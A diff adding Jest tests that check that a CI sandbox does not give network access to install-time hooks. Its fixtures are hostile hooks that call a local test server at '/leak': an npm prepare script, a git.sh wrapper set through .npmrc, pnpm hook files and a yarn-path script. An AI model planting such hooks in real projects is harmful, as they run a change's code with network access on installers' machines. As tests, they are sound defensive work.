@@ -1,15 +1,18 @@
 import { execFileSync } from 'node:child_process'
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
-import { createServer } from 'node:net'
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { createServer as createHttpServer } from 'node:http'
+import { type AddressInfo, createServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { expect, test } from '@jest/globals'
 import { create, summary, turn } from '../playground/model/script.ts'
+import type { Turn } from '../playground/model/turn.ts'
 import { needs } from '../playground/needs.ts'
 import { lastUserText, onlyPull } from './only-pull.ts'
 import { addTest, fix, HALF, openWith, RUST } from './proof-languages.ts'
 import { openRevisionScene } from './revision-scene.ts'
 import { openWholeScene, WHOLE } from './scene.ts'
+import { MEND, SMALL_PROJECT } from './small-project.ts'
 
 const manifest = (dependencies: Readonly<Record<string, string>>) =>
   `${JSON.stringify({ name: 'app', version: '1.0.0', type: 'module', scripts: { test: 'node --test' }, dependencies }, null, 2)}\n`
@@ -134,6 +137,142 @@ needs('a sandbox').test('no script that the change brings has a network while it
   expect(revised.log).toContain('setup without a network: npm rebuild')
   expect(connections).toBe(0)
 })
+
+/** A server that notes who reaches it, and gives what lies in a folder. */
+async function serve(folder = '') {
+  const asked: string[] = []
+  const server = createHttpServer(({ url = '' }, response) => {
+    asked.push(url)
+    const file = join(folder, decodeURIComponent(url.replace(/\?.*/, '')))
+    if (folder !== '' && existsSync(file) && statSync(file).isFile()) response.end(readFileSync(file))
+    else response.writeHead(404).end()
+  })
+  await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
+  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  const leaks = () => asked.filter(url => url === '/leak')
+  return { address, asked, leaks, [Symbol.asyncDispose]: async () => void server.close() }
+}
+
+/** A repository that git clones from a server of plain files. */
+function layRepository(folder: string, name: string, files: Readonly<Record<string, string>>): void {
+  const tree = join(folder, `tree-${name}`)
+  mkdirSync(tree, { recursive: true })
+  for (const [path, text] of Object.entries(files)) writeFileSync(join(tree, path), text, { mode: 0o755 })
+  const git = (...args: string[]) =>
+    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@b', ...args], { cwd: tree, stdio: 'pipe' })
+  git('init', '-q')
+  git('add', '-A')
+  git('commit', '-qm', 'all')
+  git('clone', '-q', '--bare', '.', join(folder, `${name}.git`))
+  execFileSync('git', ['update-server-info'], { cwd: join(folder, `${name}.git`) })
+}
+
+const leakTo = (address: string) => `require('http').get('${address}/leak').on('error', () => {})`
+
+needs('a sandbox').test(
+  'npm: what a new dependency from a repository brings is not run while it is downloaded',
+  async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'repositories-'))
+    await using server = await serve(folder)
+    const from = (name: string) => `git+${server.address}/${name}.git`
+    const scripts = { prepare: `node -e "${leakTo(server.address)}"` }
+    layRepository(folder, 'inner', { 'package.json': JSON.stringify({ name: 'inner', version: '1.0.0', scripts }) })
+    layRepository(folder, 'outer', {
+      'package.json': JSON.stringify({
+        name: 'outer',
+        version: '1.0.0',
+        scripts,
+        devDependencies: { inner: from('inner') },
+      }),
+      '.npmrc': 'git=./git.sh\nignore-scripts=false\n',
+      'git.sh': `#!/bin/sh\nnode -e "${leakTo(server.address)}"\nexec git "$@"\n`,
+    })
+    const said = named('package.json', 'src/note.js')
+    await using scene = await openWholeScene({
+      files: locked(),
+      script: [
+        turn(
+          create('package.json', manifest({ ...LEFT, outer: from('outer') })),
+          create('src/note.js', 'export const note = 1\n'),
+        ),
+        ...[said, said, said, said, said, said],
+      ],
+    })
+    const { log } = await scene.run({ inputs: { 'setup-command': 'npm ci --no-audit --no-fund', 'max-attempts': '1' } })
+    expect(log).toContain('npm install --no-audit --no-fund --ignore-scripts')
+    rmSync(folder, { recursive: true })
+    expect(server.asked.filter(url => url.startsWith('/inner.git/')).length).toBeGreaterThan(0)
+    expect(server.leaks()).toEqual([])
+  },
+)
+
+const HOOK = (address: string) => `${leakTo(address)}\nmodule.exports = { hooks: {} }\n`
+needs('a sandbox', 'pnpm').test.each<[string, (address: string) => Readonly<Record<string, string>>]>([
+  [
+    'of the usual name',
+    address => ({
+      '.pnpmfile.mjs': `import http from 'node:http'\nhttp.get('${address}/leak').on('error', () => {})\nexport const hooks = {}\n`,
+    }),
+  ],
+  [
+    'that the workspace names',
+    address => ({ 'hook.cjs': HOOK(address), 'pnpm-workspace.yaml': 'pnpmfile: hook.cjs\n' }),
+  ],
+])('pnpm: a hook %s of the change is not run while packages are downloaded', async (_, hookAt) => {
+  await using server = await serve()
+  const edits = Object.entries(hookAt(server.address)).map(([path, text]) => create(path, text))
+  const said = named('package.json', 'src/note.js')
+  await using scene = await openWholeScene({
+    files: FILES,
+    script: [
+      turn(create('package.json', manifest(BOTH)), create('src/note.js', 'export const note = 1\n'), ...edits),
+      ...[said, said, said, said, said],
+    ],
+  })
+  const { log } = await scene.run({ inputs: { 'setup-command': 'pnpm install', 'max-attempts': '1' } })
+  expect(log).toMatch(/setup: pnpm install --no-frozen-lockfile --ignore-scripts/)
+  expect(log).toContain('setup without a network: pnpm rebuild')
+  expect(server.leaks()).toEqual([])
+})
+
+needs('a sandbox', 'Yarn 1').test(
+  'a revision gives no network to what settings of its pull request start, unless it says so',
+  async () => {
+    await using server = await serve()
+    const own = `const refused = () => void (process.exitCode = require('fs').existsSync('broken') ? 1 : 0)
+require('http').get('${server.address}/leak', answer => answer.resume()).on('error', refused)
+`
+    const said = (...paths: string[]) => Array<Turn>(4).fill(named(...paths))
+    const note = (number: number) => create('src/note.js', `export const note = ${number}\n`)
+    await using scene = await openRevisionScene(
+      [
+        [turn(note(2), create('broken', '1\n')), ...said('src/note.js', 'broken')],
+        [turn(note(3)), ...said('src/note.js')],
+      ],
+      {
+        files: SMALL_PROJECT,
+        inputs: { ...WHOLE, 'setup-command': 'yarn install --frozen-lockfile' },
+        first: [
+          turn(MEND, create('.yarnrc', 'yarn-path "./own.cjs"\n'), create('own.cjs', own)),
+          ...said('src/sum.js', '.yarnrc', 'own.cjs'),
+        ],
+      },
+    )
+    expect(scene.first.outputs['outcome']).toBe('pr-created')
+    const revised = await scene.comment('/diffproof Make it 2.')
+    expect(revised.outputs['outcome']).toBe('pr-updated')
+    expect(revised.log).toContain('setup without a network: yarn install --frozen-lockfile')
+    expect(server.leaks()).toEqual([])
+    // What fails without a network gets one, and whoever reviews it reads that.
+    const again = await scene.comment('/diffproof Make it 3.')
+    expect(again.outputs['outcome']).toBe('pr-updated')
+    expect(again.log).toContain('code of the change may run with a network now: yarn install --frozen-lockfile')
+    expect(server.leaks()).toHaveLength(1)
+    const { body, record } = await onlyPull(scene)
+    expect(record.evidence.setup_with_network).toBe('yarn install --frozen-lockfile')
+    expect(body).toContain('`yarn install --frozen-lockfile` had a network, and may have run code of the change')
+  },
+)
 
 const crate = (name: string, dependencies = '') =>
   `[package]\nname = "${name}"\nversion = "1.0.0"\nedition = "2021"\n\n[dependencies]\n${dependencies}`
